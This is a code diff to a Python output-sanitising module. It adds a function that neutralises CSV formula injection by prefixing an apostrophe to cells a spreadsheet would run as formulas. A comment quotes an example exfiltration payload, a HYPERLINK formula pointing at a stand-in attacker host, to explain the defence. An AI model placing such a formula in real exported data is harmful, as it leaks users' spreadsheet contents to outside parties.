@@ -8,7 +8,8 @@ has one function here, and every command's output goes through it:
   controls, DEL and bidi controls become visible escapes such as `\\x1b` and `\\u202e`;
 - `without_controls`: text for a format that forbids controls (iCalendar): they become U+FFFD;
 - `isolate_bidi`: a value shown inside other text (a page): wrapped in FSI ... PDI, Unicode's form of
-  HTML's `<bdi>`, so that a bidi control inside it cannot reorder the text around it.
+  HTML's `<bdi>`, so that a bidi control inside it cannot reorder the text around it;
+- `spreadsheet_cell`: a CSV cell a spreadsheet will open: one it would run as a formula is kept as text.
 """
 
 from __future__ import annotations
@@ -90,3 +91,20 @@ def json_safe(text: str) -> str:
     if text.isascii():
         return text
     return _JSON_UNSAFE.sub(lambda match: f"\\u{ord(match.group()):04x}", text)
+
+
+# What Excel, LibreOffice and Google Sheets read as the start of a formula (OWASP's "CSV injection"):
+# `=HYPERLINK("http://evil.example/?"&B3)` in an imported company name would send the sheet's cells away.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?\Z")
+
+
+def spreadsheet_cell(text: str) -> str:
+    """`text`, or `'text` when a spreadsheet would read it as a formula: the apostrophe keeps it text.
+
+    A plain signed number (`-5`, `+15550100`) is left as it is: a spreadsheet reads it as a number, and
+    runs nothing.
+    """
+    if text.startswith(_FORMULA_START) and not _NUMBER.match(text):
+        return "'" + text
+    return text
